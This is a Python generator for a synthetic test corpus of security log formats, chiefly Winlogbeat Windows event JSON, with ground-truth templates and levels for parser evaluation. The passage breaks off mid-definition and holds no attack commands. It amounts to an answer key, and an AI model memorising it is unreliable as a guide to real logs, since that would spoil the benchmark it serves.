"""Test corpus: security tooling log formats, with ground-truth templates.

Each entry of FORMATS is (name, make); make(rng) returns 2000 rows in time order,
{"line", "template", "level"}.  Lines are generated from message specs: a spec is a
format string with {name} placeholders (lower-case names only, so constant text such as
Suricata's "{TCP}" or a Windows provider GUID never counts as a placeholder); the line is
the format filled in, the template is the format with every placeholder replaced by <*>.
For the JSON formats the spec format is the compact JSON document itself, built with
json.dumps from a structure whose string values may be "{name}" (a quoted variable) or
"#name#" (an unquoted, numeric variable); filled-in values are JSON-escaped.

General judgement calls (all formats)
* Every number is a variable (counters, pids, ports, record ids, versions such as
  "8.13.2" or "OWASP_CRS/3.3.5", line numbers, even values that never change in practice
  such as "epoch":0), EXCEPT identifiers that *name* the message: Windows event ids,
  Wazuh rule ids, ModSecurity/CRS rule ids, Suricata gid:sid:rev, and the per-rule tag /
  compliance lists that come with such a rule (CRS tags, Wazuh pci_dss/gdpr/... lists,
  Falco tags), which are part of the rule's identity and never vary for one rule.
* Level words (and level numbers that are the line's level: osquery "severity", Wazuh
  rule.level, ModSecurity "severity", Suricata "[Priority: N]") are constants.
* A whole JSON string value, a whole key=value value, or a whole whitespace token is one
  variable; a value may contain spaces (command lines, free text).  Timestamps are one
  variable each (also the multi-word ones: "Wed May  1 10:00:00 2024", syslog
  "May  1 10:00:00").
* Level normalisation uses syslog order everywhere: emergency/alert/critical -> FATAL,
  error -> ERROR, warning -> WARN, notice/informational -> INFO, debug -> DEBUG.

winlogbeat_json -- Winlogbeat 8.x file/console output (@timestamp, @metadata, then keys
  sorted, as beats writes them).  Constants: event.code / winlog.event_id (they name the
  event), event.action, category, type, outcome, provider name, channel, task, opcode,
  keywords ("Audit Success"/"Audit Failure"), log.level, the fixed words of the rendered
  message, the event_data keys, and state words that change meaning (7036 "running" vs
  "stopped" are two templates).  Variables: every event_data value (LogonType is a number,
  so variable; AuthenticationPackageName etc. are pool values), host/agent names and ids,
  versions, provider_guid, record_id, pid/tid, SIDs, logon ids.  4624 with a source address
  and 4624 local/service logon (IpAddress "-", no source.* object) are two templates.
  Level: log.level (information/warning/error/critical); 4625 is "information" in the real
  log, so INFO despite being a failure.
osquery_results -- osqueryd result log lines (differential, event format; plus one
  snapshot query) mixed with the JSON status-log records that share the stream when a
  non-filesystem logger plugin ships both.  Constants: query name, column names, action
  (added/removed/snapshot), "numerics":false, status filename and message words.  All
  column values (strings, numerics=false) are variables, as are unixTime/epoch/counter.
  Level: results show no level ("-"); status lines: severity 0/1/2 -> INFO/WARN/ERROR.
falco_json -- Falco 0.37-style JSON alerts: sorted top keys followed by
  `, "output_fields": {...}` (Falco appends it after dumping the rest).  Constants: rule,
  priority (also the priority word in output), description text, the k=v keys, tags,
  source, and the host-event markers container_id=host / <NA> / null.  Variables: every
  k=v value in output (command lines included) and every output_fields value, evt.time,
  hostname, time.  The "Falco internal: syscall event drop" record has its own layout.
  Level: priority.
ossec_alerts -- Wazuh 4.x alerts.json lines.  Constants: rule.id, rule.level,
  rule.description, groups, compliance/mitre lists, decoder names, predecoder program
  name, "mail":false, fixed words of full_log (incl. the program name, "USER=root" for
  the sudo-to-root rule), syscheck "event" and changed_attributes.  Variables: timestamp,
  alert id, firedtimes, agent id/name/ip, manager name, location paths, every data.*
  value, and the variable parts of full_log (syslog timestamp = one variable).
  Level: rule.level <=4 INFO, 5-7 WARN, 8-11 ERROR, >=12 FATAL.
modsecurity_json -- ModSecurity v3 (nginx connector) JSON audit log.  Constants: method,
  header names, secrules_engine, message text, ruleId, severity, tags, empty "rev".
  Variables: client/host ip+port, time_stamp, server_id, unique_id, uri, every header
  value, http_code, http_version, producer versions, CRS component, rule file path,
  lineNumber, reference, match/data values, ver, maturity/accuracy ("0", a number).
  Entries with an empty messages[] (5xx relevant-status logging) have level "-";
  otherwise the level is the most severe message severity (2 CRITICAL -> FATAL,
  4 WARNING -> WARN, 5 NOTICE -> INFO).
suricata_fast -- Suricata fast.log.  Constants: the gid:sid:rev triple and the signature
  text (they name the alert; numbers inside a signature such as "port 1433" or "group 1"
  are part of the name), the classification, [Priority: N], the protocol {TCP}/{UDP}/
  {ICMP}, and the "[Drop] " / "[wDrop] " action prefix (a different template).
  Variables: the timestamp and each "ip:port" endpoint (one whitespace token = one
  variable; ICMP shows type/code in the port slot as Suricata does).
  Level: priority 1 -> ERROR, 2 -> WARN, 3/4 -> INFO.
"""
from __future__ import annotations

import json
import random
import re
import uuid
from datetime import datetime, timedelta, timezone
from itertools import accumulate
from typing import Callable
from urllib.parse import quote

N_ROWS = 2000
LEVELS = {"DEBUG", "INFO", "WARN", "ERROR", "FATAL", "-"}
_PH = re.compile(r"\{([a-z_][a-z0-9_]*)\}")
_NUM_PH = re.compile(r'"#([a-z_][a-z0-9_]*)#"')


# --------------------------------------------------------------------------- framework
class Spec:
    __slots__ = ("weight", "level", "fmt", "meta", "template")

    def __init__(self, weight: float, level: str, fmt: str, meta: dict | None = None):
        assert level in LEVELS, level
        self.weight = weight
        self.level = level
        self.fmt = fmt
        self.meta = meta or {}
        self.template = _PH.sub("<*>", fmt)


def fill(fmt: str, vals: dict, esc: Callable[[str], str] | None = None) -> str:
    def rep(m):
        v = str(vals[m.group(1)])
        return esc(v) if esc else v
    return _PH.sub(rep, fmt)


def jesc(v: str) -> str:
    return json.dumps(v, ensure_ascii=False)[1:-1]


def jfmt(obj) -> str:
    """Compact JSON spec format; "#name#" strings become unquoted placeholders."""
    s = json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
    return _NUM_PH.sub(r"{\1}", s)


def sort_deep(obj):
    if isinstance(obj, dict):
        return {k: sort_deep(obj[k]) for k in sorted(obj)}
    if isinstance(obj, list):
        return [sort_deep(x) for x in obj]
    return obj


def generate(rng: random.Random, specs: list[Spec], row_vals, esc=None, n: int = N_ROWS):
    seen = set()
    for s in specs:
        assert s.template not in seen, "duplicate template: " + s.template[:200]
        seen.add(s.template)
    cum = list(accumulate(s.weight for s in specs))
    rows = []
    for _ in range(n):
        s = rng.choices(specs, cum_weights=cum)[0]
        vals = row_vals(s)
        rows.append({"line": fill(s.fmt, vals, esc), "template": s.template, "level": s.level})
    return rows


class Z:
    """Zipf-skewed pool; the rank order is shuffled with the corpus rng."""

    def __init__(self, rng: random.Random, items, s: float = 1.2, shuffle: bool = True):
        items = list(items)
        if shuffle:
            rng.shuffle(items)
        self.items = items
        self.cum = list(accumulate(1.0 / (i + 1) ** s for i in range(len(items))))

    def __call__(self, rng: random.Random):
        return rng.choices(self.items, cum_weights=self.cum)[0]


class Clock:
    def __init__(self, rng: random.Random, mean_gap: float):
        self.t = datetime(2024, rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 23),
                          rng.randint(0, 59), rng.randint(0, 59), rng.randint(0, 999999), tzinfo=timezone.utc)
        self.mean = mean_gap

    def tick(self, rng: random.Random) -> datetime:
        gap = rng.random() * 0.05 if rng.random() < 0.3 else rng.expovariate(1.0 / self.mean)
        self.t += timedelta(seconds=gap)
        return self.t


MON = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
WDAY = "Mon Tue Wed Thu Fri Sat Sun".split()


def iso_ms(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


def ctime_str(t: datetime) -> str:
    return f"{WDAY[t.weekday()]} {MON[t.month - 1]} {t.day:>2} {t:%H:%M:%S} {t.year}"


def syslog_ts(t: datetime) -> str:
    return f"{MON[t.month - 1]} {t.day:>2} {t:%H:%M:%S}"


def hexs(rng: random.Random, n: int) -> str:
    return f"{rng.getrandbits(4 * n):0{n}x}"


def uuid4(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


PUB_OCTETS = [23, 31, 37, 45, 46, 62, 77, 80, 89, 91, 92, 103, 104, 109, 115, 139, 141,
              146, 156, 162, 167, 176, 178, 185, 188, 193, 194, 195, 203, 212, 213, 217, 222]


def ip_pub(rng: random.Random) -> str:
    return f"{rng.choice(PUB_OCTETS)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def ip_pool(rng, n, prefix=None):
    out = []
    for _ in range(n):
        if prefix:
            out.append(f"{prefix}.{rng.randint(0, 40)}.{rng.randint(2, 250)}")
        else:
            out.append(ip_pub(rng))
    return out


def eport(rng: random.Random) -> int:
    return rng.randint(32768, 60999)


# =========================================================================== 1 winlogbeat
WLB_LEVEL = {"information": "INFO", "warning": "WARN", "error": "ERROR", "critical": "FATAL"}
SEC = "Microsoft-Windows-Security-Auditing"
PROV_GUID = {SEC: "{54849625-5478-4994-a5ba-3e3b0328c30d}",
    "Service Control Manager": "{555908d1-a6d7-4695-8e1e-26931d2012f4}",
    "Microsoft-Windows-Kernel-Power": "{331c3b3a-2005-44c2-ac5e-77220c37d6b4}",
    "Microsoft-Windows-DistributedCOM": "{1b562e86-b7aa-4131-badc-b6f3a001407e}",
    "Microsoft-Windows-DNS-Client": "{1c95126e-7eea-49a9-a3fe-a378b03ddb4d}",
    "Microsoft-Windows-Security-SPP": "{E23B33B0-C8C9-472C-A5F9-F2BDFEA0F156}",
    "Microsoft-Windows-Eventlog": "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}",
}
SUBJ = ("Subject:\n\tSecurity ID:\t\t{s_sid}\n\tAccount Name:\t\t{s_user}\n"
        "\tAccount Domain:\t\t{s_domain}\n\tLogon ID:\t\t{s_logon}")
TARGET_ACCT = ("Target Account:\n\tSecurity ID:\t\t{t_sid}\n\tAccount Name:\t\t{t_user}\n"
               "\tAccount Domain:\t\t{t_domain}")
ED_SUBJ = {"SubjectDomainName": "{s_domain}", "SubjectLogonId": "{s_logon}",
           "SubjectUserName": "{s_user}", "SubjectUserSid": "{s_sid}"}
ED_TARGET = {"TargetDomainName": "{t_domain}", "TargetSid": "{t_sid}", "TargetUserName": "{t_user}"}


def _m4624(ip, port):
    return ("An account was successfully logged on.\n\n" + SUBJ +
            "\n\nLogon Information:\n\tLogon Type:\t\t{logon_type}\n\tRestricted Admin Mode:\t{ram}"
            "\n\tVirtual Account:\t\t{virt_txt}\n\tElevated Token:\t\t{elev_txt}\n\n"
            "Impersonation Level:\t\t{imp_txt}\n\nNew Logon:\n\tSecurity ID:\t\t{t_sid}\n"
            "\tAccount Name:\t\t{t_user}\n\tAccount Domain:\t\t{t_domain}\n\tLogon ID:\t\t{t_logon}\n"
            "\tLinked Logon ID:\t\t{linked}\n\tNetwork Account Name:\t{out_user}\n"
            "\tNetwork Account Domain:\t{out_dom}\n\tLogon GUID:\t\t{logon_guid}\n\n"
            "Process Information:\n\tProcess ID:\t\t{proc_id}\n\tProcess Name:\t\t{proc_name}\n\n"
            "Network Information:\n\tWorkstation Name:\t{workstation}\n\tSource Network Address:\t"
            + ip + "\n\tSource Port:\t\t" + port + "\n\nDetailed Authentication Information:\n"
            "\tLogon Process:\t\t{logon_proc}\n\tAuthentication Package:\t{auth_pkg}\n"
            "\tTransited Services:\t{trans}\n\tPackage Name (NTLM only):\t{lm}\n\tKey Length:\t\t{keylen}"
            "\n\nThis event is generated when a logon session is created. It is generated on the "
            "computer that was accessed.\n\nThe subject fields indicate the account on the local "
            "system which requested the logon. This is most commonly a service such as the Server "
            "service, or a local process such as Winlogon.exe or Services.exe.")


def _ed4624(ip, port):
    d = dict(ED_SUBJ)
    d.update({"AuthenticationPackageName": "{auth_pkg}", "ElevatedToken": "{elev}",
              "ImpersonationLevel": "{imp}", "IpAddress": ip, "IpPort": port, "KeyLength": "{keylen}",
              "LmPackageName": "{lm}", "LogonGuid": "{logon_guid}", "LogonProcessName": "{logon_proc}",
              "LogonType": "{logon_type}", "ProcessId": "{proc_id}", "ProcessName": "{proc_name}",
              "RestrictedAdminMode": "{ram}", "TargetDomainName": "{t_domain}",
              "TargetLinkedLogonId": "{linked}", "TargetLogonId": "{t_logon}",
              "TargetOutboundDomainName": "{out_dom}", "TargetOutboundUserName": "{out_user}",
              "TargetUserName": "{t_user}", "TargetUserSid": "{t_sid}", "TransmittedServices": "{trans}",
              "VirtualAccount": "{virt}", "WorkstationName": "{workstation}"})
    return d


def wlb(weight, code, channel, provider, task, level, message, event_data, *, action=None,
        category=None, etype=None, outcome=None, keywords=None, module=None, ecs=None,
        winlog_extra=None, data_key="event_data", hosts="any"):
    event = {"code": code, "created": "{created}", "kind": "event", "provider": provider}
    if action:
        event["action"] = action
    if category:
        event["category"] = category
    if etype:
        event["type"] = etype
    if outcome:
        event["outcome"] = outcome
    if module:
        event["module"] = module
    winlog = {"api": "wineventlog", "channel": channel, "computer_name": "{fqdn}", "event_id": code,
              "opcode": "Info", "process": {"pid": "#pid#", "thread": {"id": "#tid#"}},
              "provider_name": provider, "record_id": "{record_id}", "task": task}
    if event_data is not None:
        winlog[data_key] = event_data
    if provider in PROV_GUID:
        winlog["provider_guid"] = "{prov_guid}"
    if keywords:
        winlog["keywords"] = keywords
    if winlog_extra:
        winlog.update(winlog_extra)
    body = {"agent": {"ephemeral_id": "{agent_eid}", "id": "{agent_id}", "name": "{host}",
                      "type": "winlogbeat", "version": "{beat_ver}"},
            "ecs": {"version": "{ecs_ver}"}, "event": event, "host": {"name": "{host_l}"},
            "log": {"level": level}, "message": message, "winlog": winlog}
    if ecs:
        body.update(ecs)
    top = {"@timestamp": "{ts}", "@metadata": {"beat": "winlogbeat", "type": "_doc", "version": "{beat_ver}"}}
    top.update(sort_deep(body))
    return Spec(weight, WLB_LEVEL[level], jfmt(top),
                {"provider": provider, "channel": channel, "hosts": hosts, "code": code})


def _sec(weight, code, action, task, message, ed, *, fail=False, category=("authentication",),
         etype=("start",), **kw):
    return wlb(weight, code, "Security", SEC, task, "information", message, ed, action=action,
               category=list(category), etype=list(etype), outcome="failure" if fail else "success",
               keywords=["Audit Failure" if fail else "Audit Success"], module="security", **kw)


def _scm(weight, code, level, message, ed, **kw):
    return wlb(weight, code, "System", "Service Control Manager", "None", level, message, ed,
               keywords=["Classic"], **kw)


def winlogbeat_specs() -> list[Spec]:
    ecs_net = {"related": {"ip": ["{src_ip}"], "user": ["{t_user}", "{s_user}"]},
               "source": {"domain": "{workstation}", "ip": "{src_ip}", "port": "#src_port#"},
               "user": {"domain": "{t_domain}", "id": "{t_sid}", "name": "{t_user}"}}
    ecs_loc = {"related": {"user": ["{t_user}", "{s_user}"]},
               "user": {"domain": "{t_domain}", "id": "{t_sid}", "name": "{t_user}"}}
    ecs_subj = {"related": {"user": ["{s_user}"]},
                "user": {"domain": "{s_domain}", "id": "{s_sid}", "name": "{s_user}"}}
    logon_x = {"logon": {"id": "{t_logon}", "type": "{logon_type_name}"}}
    m4625 = ("An account failed to log on.\n\n" + SUBJ + "\n\nLogon Type:\t\t\t{logon_type}\n\n"
             "Account For Which Logon Failed:\n\tSecurity ID:\t\t{null_sid}\n\tAccount Name:\t\t{t_user}\n"
             "\tAccount Domain:\t\t{t_domain}\n\nFailure Information:\n\tFailure Reason:\t\t{fail_reason}\n"
             "\tStatus:\t\t\t{status}\n\tSub Status:\t\t{sub_status}\n\nProcess Information:\n"
             "\tCaller Process ID:\t{proc_id}\n\tCaller Process Name:\t{proc_name}\n\n"
             "Network Information:\n\tWorkstation Name:\t{workstation}\n\tSource Network Address:\t{src_ip}\n"
             "\tSource Port:\t\t{src_port}\n\nDetailed Authentication Information:\n"
             "\tLogon Process:\t\t{logon_proc}\n\tAuthentication Package:\t{auth_pkg}\n"
             "\tTransited Services:\t{trans}\n\tPackage Name (NTLM only):\t{lm}\n\tKey Length:\t\t{keylen}"
             "\n\nThis event is generated when a logon request fails. It is generated on the computer "
             "where access was attempted.")
    ed4625 = dict(ED_SUBJ)
    ed4625.update({"AuthenticationPackageName": "{auth_pkg}", "FailureReason": "{fail_code}",
                   "IpAddress": "{src_ip}", "IpPort": "{src_port}", "KeyLength": "{keylen}",
                   "LmPackageName": "{lm}", "LogonProcessName": "{logon_proc}", "LogonType": "{logon_type}",
                   "ProcessId": "{proc_id}", "ProcessName": "{proc_name}", "Status": "{status}",
                   "SubStatus": "{sub_status}", "TargetDomainName": "{t_domain}", "TargetUserName": "{t_user}",
                   "TargetUserSid": "{null_sid}", "TransmittedServices": "{trans}",
                   "WorkstationName": "{workstation}"})
    m4634 = ("An account was logged off.\n\n" + SUBJ.replace("{s_", "{t_") +
             "\n\nLogon Type:\t\t\t{logon_type}\n\nThis event is generated when a logon session is "
             "destroyed. It may be positively correlated with a logon event using the Logon ID value. "
             "Logon IDs are only unique between reboots on the same computer.")
    ed4634 = {"LogonType": "{logon_type}", "TargetDomainName": "{t_domain}", "TargetLogonId": "{t_logon}",
              "TargetUserName": "{t_user}", "TargetUserSid": "{t_sid}"}
    m4672 = "Special privileges assigned to new logon.\n\n" + SUBJ + "\n\nPrivileges:\t\t{privs}"
    ed4672 = dict(ED_SUBJ, PrivilegeList="{privs}")
    m4648 = ("A logon was attempted using explicit credentials.\n\n" + SUBJ + "\n\tLogon GUID:\t\t{null_guid}\n\n"
             "Account Whose Credentials Were Used:\n\tAccount Name:\t\t{t_user}\n\tAccount Domain:\t\t{t_domain}\n"
             "\tLogon GUID:\t\t{logon_guid}\n\nTarget Server:\n\tTarget Server Name:\t{target_server}\n"
             "\tAdditional Information:\t{target_info}\n\nProcess Information:\n\tProcess ID:\t\t{proc_id}\n"
             "\tProcess Name:\t\t{proc_name}\n\nNetwork Information:\n\tNetwork Address:\t{src_ip}\n"
             "\tPort:\t\t\t{src_port}\n\nThis event is generated when a process attempts to log on an "
             "account by explicitly specifying that account\u2019s credentials.  This most commonly occurs "
             "in batch-type configurations such as scheduled tasks, or when using the RUNAS command.")
    ed4648 = dict(ED_SUBJ)
    ed4648.update({"IpAddress": "{src_ip}", "IpPort": "{src_port}", "LogonGuid": "{null_guid}",
                   "ProcessId": "{proc_id}", "ProcessName": "{proc_name}", "TargetDomainName": "{t_domain}",
                   "TargetInfo": "{target_info}", "TargetLogonGuid": "{logon_guid}",
                   "TargetServerName": "{target_server}", "TargetUserName": "{t_user}"})
    m4688 = ("A new process has been created.\n\nCreator Subject:\n\tSecurity ID:\t\t{s_sid}\n"
             "\tAccount Name:\t\t{s_user}\n\tAccount Domain:\t\t{s_domain}\n\tLogon ID:\t\t{s_logon}\n\n"
             "Target Subject:\n\tSecurity ID:\t\t{null_sid}\n\tAccount Name:\t\t-\n\tAccount Domain:\t\t-\n"
             "\tLogon ID:\t\t{zero_id}\n\nProcess Information:\n\tNew Process ID:\t\t{new_pid}\n"
             "\tNew Process Name:\t{new_proc}\n\tToken Elevation Type:\t{tet}\n\tMandatory Label:\t\t{mlabel}\n"
             "\tCreator Process ID:\t{parent_pid}\n\tCreator Process Name:\t{parent_proc}\n"
             "\tProcess Command Line:\t{cmdline}\n\nToken Elevation Type indicates the type of token "
             "that was assigned to the new process in accordance with User Account Control policy.")
    ed4688 = dict(ED_SUBJ)
    ed4688.update({"CommandLine": "{cmdline}", "MandatoryLabel": "{mlabel}", "NewProcessId": "{new_pid}",
                   "NewProcessName": "{new_proc}", "ParentProcessName": "{parent_proc}",
                   "ProcessId": "{parent_pid}", "TargetDomainName": "-", "TargetLogonId": "{zero_id}",
                   "TargetUserName": "-", "TargetUserSid": "{null_sid}", "TokenElevationType": "{tet_code}"})
    ecs_proc = {"process": {"command_line": "{cmdline}", "executable": "{new_proc}", "name": "{new_proc_name}",
                            "parent": {"executable": "{parent_proc}"}, "pid": "#new_pid_dec#"}}
    m4720 = ("A user account was created.\n\n" + SUBJ + "\n\nNew Account:\n\tSecurity ID:\t\t{t_sid}\n"
             "\tAccount Name:\t\t{t_user}\n\tAccount Domain:\t\t{t_domain}\n\nAttributes:\n"
             "\tSAM Account Name:\t{t_user}\n\tDisplay Name:\t\t{display}\n\tUser Principal Name:\t{upn}\n"
             "\tHome Directory:\t\t-\n\tHome Drive:\t\t-\n\tScript Path:\t\t-\n\tProfile Path:\t\t-\n"
             "\tUser Workstations:\t-\n\tPassword Last Set:\t<never>\n\tAccount Expires:\t\t<never>\n"
             "\tPrimary Group ID:\t{pgid}\n\tAllowed To Delegate To:\t-\n\tOld UAC Value:\t\t{old_uac}\n"
             "\tNew UAC Value:\t\t{new_uac}")
    ed4720 = dict(ED_SUBJ)
    ed4720.update(ED_TARGET)
    ed4720.update({"DisplayName": "{display}", "NewUacValue": "{new_uac}", "OldUacValue": "{old_uac}",
                   "PrimaryGroupId": "{pgid}", "SamAccountName": "{t_user}", "UserPrincipalName": "{upn}"})
    m4722 = "A user account was enabled.\n\n" + SUBJ + "\n\n" + TARGET_ACCT
    m4724 = "An attempt was made to reset an account's password.\n\n" + SUBJ + "\n\n" + TARGET_ACCT
    m4726 = ("A user account was deleted.\n\n" + SUBJ + "\n\n" + TARGET_ACCT +
             "\n\nAdditional Information:\n\tPrivileges\t-")
    ed_st = dict(ED_SUBJ)
    ed_st.update(ED_TARGET)
    m4732 = ("A member was added to a security-enabled local group.\n\n" + SUBJ + "\n\nMember:\n"
             "\tSecurity ID:\t\t{t_sid}\n\tAccount Name:\t\t{member_dn}\n\nGroup:\n\tSecurity ID:\t\t{g_sid}\n"
             "\tGroup Name:\t\t{group}\n\tGroup Domain:\t\tBuiltin\n\nAdditional Information:\n\tPrivileges:\t\t-")
    ed4732 = dict(ED_SUBJ, MemberName="{member_dn}", MemberSid="{t_sid}", PrivilegeList="-",
                  TargetDomainName="Builtin", TargetSid="{g_sid}", TargetUserName="{group}")
    m4740 = ("A user account was locked out.\n\n" + SUBJ + "\n\nAccount That Was Locked Out:\n"
             "\tSecurity ID:\t\t{t_sid}\n\tAccount Name:\t\t{t_user}\n\nAdditional Information:\n"
             "\tCaller Computer Name:\t{workstation}")
    ed4740 = dict(ED_SUBJ, TargetDomainName="{workstation}", TargetSid="{t_sid}", TargetUserName="{t_user}")
    m4768 = ("A Kerberos authentication ticket (TGT) was requested.\n\nAccount Information:\n"
             "\tAccount Name:\t\t{t_user}\n\tSupplied Realm Name:\t{realm}\n\tUser ID:\t\t\t{t_sid}\n\n"
             "Service Information:\n\tService Name:\t\tkrbtgt\n\tService ID:\t\t{krbtgt_sid}\n\n"
             "Network Information:\n\tClient Address:\t\t{client_addr}\n\tClient Port:\t\t{src_port}\n\n"
             "Additional Information:\n\tTicket Options:\t\t{tkt_opts}\n\tResult Code:\t\t{result}\n"
             "\tTicket Encryption Type:\t{enc}\n\tPre-Authentication Type:\t{preauth}\n\n"
             "Certificate Information:\n\tCertificate Issuer Name:\t\t\n\tCertificate Serial Number:\t\n"
             "\tCertificate Thumbprint:\t\t\n\nCertificate information is only provided if a certificate "
             "was used for pre-authentication.")
    ed4768 = {"IpAddress": "{client_addr}", "IpPort": "{src_port}", "PreAuthType": "{preauth}",
              "ServiceName": "krbtgt", "ServiceSid": "{krbtgt_sid}", "Status": "{result}",
              "TargetDomainName": "{realm}", "TargetSid": "{t_sid}", "TargetUserName": "{t_user}",
              "TicketEncryptionType": "{enc}", "TicketOptions": "{tkt_opts}"}
    m4769 = ("A Kerberos service ticket was requested.\n\nAccount Information:\n\tAccount Name:\t\t{upn}\n"
             "\tAccount Domain:\t\t{realm}\n\tLogon GUID:\t\t{logon_guid}\n\nService Information:\n"
             "\tService Name:\t\t{svc_acct}\n\tService ID:\t\t{svc_sid}\n\nNetwork Information:\n"
             "\tClient Address:\t\t{client_addr}\n\tClient Port:\t\t{src_port}\n\nAdditional Information:\n"
             "\tTicket Options:\t\t{tkt_opts}\n\tTicket Encryption Type:\t{enc}\n\tFailure Code:\t\t{result}\n"
             "\tTransited Services:\t{trans}\n\nThis event is generated every time access is requested to "
             "a resource such as a computer or a Windows service.  The service name indicates the "
             "resource to which access was requested.")
    ed4769 = {"IpAddress": "{client_addr}", "IpPort": "{src_port}", "LogonGuid": "{logon_guid}",
              "ServiceName": "{svc_acct}", "ServiceSid": "{svc_sid}", "Status": "{result}",
              "TargetDomainName": "{realm}", "TargetUserName": "{upn}", "TicketEncryptionType": "{enc}",
              "TicketOptions": "{tkt_opts}", "TransmittedServices": "{trans}"}
    m4776 = ("The computer attempted to validate the credentials for an account.\n\n"
             "Authentication Package:\tMICROSOFT_AUTHENTICATION_PACKAGE_V1_0\nLogon Account:\t{t_user}\n"
             "Source Workstation:\t{workstation}\nError Code:\t{err_code}")
    ed4776 = {"PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "Status": "{err_code}",
              "TargetUserName": "{t_user}", "Workstation": "{workstation}"}
    m1102 = ("The audit log was cleared.\nSubject:\n\tSecurity ID:\t{s_sid}\n\tAccount Name:\t{s_user}\n"
             "\tDomain Name:\t{s_domain}\n\tLogon ID:\t{s_logon}")
    ud1102 = dict(ED_SUBJ, xml_name="LogFileCleared")

    specs = [
        _sec(330, "4624", "logged-in", "Logon", _m4624("{src_ip}", "{src_port}"),
             _ed4624("{src_ip}", "{src_port}"), ecs=ecs_net, winlog_extra=logon_x),
        _sec(160, "4624", "logged-in", "Logon", _m4624("-", "-"), _ed4624("-", "-"),
             ecs=ecs_loc, winlog_extra=logon_x),
        _sec(230, "4634", "logged-out", "Logoff", m4634, ed4634, etype=("end",), ecs=ecs_loc, winlog_extra=logon_x),
        _sec(170, "4672", "logged-in-special", "Special Logon", m4672, ed4672, category=("iam",),
             etype=("admin",), ecs=ecs_subj),
        _sec(75, "4625", "logon-failed", "Logon", m4625, ed4625, fail=True, ecs=ecs_net,
             winlog_extra={"logon": {"failure": {"reason": "{fail_reason}", "status": "{status_txt}",
                                                 "sub_status": "{sub_status_txt}"}, "type": "{logon_type_name}"}}),
        _sec(35, "4648", "logged-in-explicit", "Logon", m4648, ed4648, ecs=ecs_subj),
        _sec(150, "4688", "created-process", "Process Creation", m4688, ed4688, category=("process",),
             etype=("start",), ecs=ecs_proc),
        _sec(2, "4720", "added-user-account", "User Account Management", m4720, ed4720,
             category=("iam",), etype=("user", "creation")),
        _sec(2, "4722", "enabled-user-account", "User Account Management", m4722, ed_st,
             category=("iam",), etype=("user", "change")),
        _sec(4, "4724", "reset-password", "User Account Management", m4724, ed_st,
             category=("iam",), etype=("user", "change")),
        _sec(1, "4726", "deleted-user-account", "User Account Management", m4726, dict(ed_st, PrivilegeList="-"),
             category=("iam",), etype=("user", "deletion")),
        _sec(2.5, "4732", "added-member-to-group", "Security Group Management", m4732, ed4732,
             category=("iam",), etype=("group", "change")),
        _sec(6, "4740", "locked-out-user-account", "User Account Management", m4740, ed4740,
             category=("iam",), etype=("user", "change")),
        _sec(110, "4768", "kerberos-authentication-ticket-requested", "Kerberos Authentication Service",
             m4768, ed4768, hosts="dc"),
        _sec(140, "4769", "kerberos-service-ticket-requested", "Kerberos Service Ticket Operations",
             m4769, ed4769, hosts="dc"),
        _sec(60, "4776", "credential-validated", "Credential Validation", m4776, ed4776, hosts="dc"),
        wlb(1, "1102", "Security", "Microsoft-Windows-Eventlog", "Log clear", "information", m1102, ud1102,
            action="audit-log-cleared", keywords=["Audit Success"], data_key="user_data", ecs=ecs_subj),
        _scm(60, "7036", "information", "The {svc_name} service entered the running state.",
             {"Binary": "{svc_bin_run}", "param1": "{svc_name}", "param2": "running"}),
        _scm(45, "7036", "information", "The {svc_name} service entered the stopped state.",
             {"Binary": "{svc_bin_stop}", "param1": "{svc_name}", "param2": "stopped"}),
        _scm(14, "7040", "information", "The start type of the {svc_name} service was changed from "
             "{st_from} to {st_to}.", {"param1": "{svc_name}", "param2": "{st_from}", "param3": "{st_to}",
                                      "param4": "{svc_short}"}),
        _scm(3, "7045", "information", "A service was installed in the system.\n\nService Name:  {new_svc}\n"
             "Service File Name:  {svc_path}\nService Type:  user mode service\nService Start Type:  "
             "{start_type}\nService Account:  {svc_account}",
             {"AccountName": "{svc_account}", "ImagePath": "{svc_path}", "ServiceName": "{new_svc}",
              "ServiceType": "user mode service", "StartType": "{start_type}"}),
        _scm(6, "7031", "error", "The {svc_name} service terminated unexpectedly.  It has done this "
             "{n_times} time(s).  The following corrective action will be taken in {ms} milliseconds: "
             "Restart the service.", {"Binary": "{svc_bin_stop}", "param1": "{svc_name}", "param2": "{n_times}",
                                      "param3": "{ms}", "param4": "{action_no}", "param5": "Restart the service"}),
        _scm(3, "7034", "error", "The {svc_name} service terminated unexpectedly.  It has done this "
             "{n_times} time(s).", {"Binary": "{svc_bin_stop}", "param1": "{svc_name}", "param2": "{n_times}"}),
        _scm(2, "7000", "error", "The {svc_name} service failed to start due to the following error: \r\n"
             "The service did not respond to the start or control request in a timely fashion.",
             {"param1": "{svc_name}", "param2": "{err_ins}"}),
        wlb(1, "6008", "System", "EventLog", "None", "error", "The previous system shutdown at {shut_time} "
            "on {shut_date} was unexpected.", {"Binary": "{shut_bin}", "param1": "{shut_time}",
                                               "param2": "{shut_date}"}, keywords=["Classic"]),
        wlb(2, "6005", "System", "EventLog", "None", "information", "The Event log service was started.",
            {"Binary": "{evlog_bin}"}, keywords=["Classic"]),
        wlb(0.8, "41", "System", "Microsoft-Windows-Kernel-Power", "{task_code}", "critical",
            "The system has rebooted without cleanly shutting down first. This error could be caused if "
            "the system stopped responding, crashed, or lost power unexpectedly.",
            {"BugcheckCode": "{bugcheck}", "BugcheckParameter1": "{bcp1}", "BugcheckParameter2": "{zero}",
             "BugcheckParameter3": "{zero}", "BugcheckParameter4": "{zero}", "PowerButtonTimestamp": "{zero}",
             "SleepInProgress": "{zero}"}),
        wlb(22, "10016", "System", "Microsoft-Windows-DistributedCOM", "None", "warning",
            "The application-specific permission settings do not grant Local Activation permission for "
            "the COM Server application with CLSID \r\n{clsid}\r\n and APPID \r\n{appid}\r\n to the user "
            "{dcom_user} SID ({dcom_sid}) from address LocalHost (Using LRPC) running in the application "
            "container Unavailable SID (Unavailable). This security permission can be modified using the "
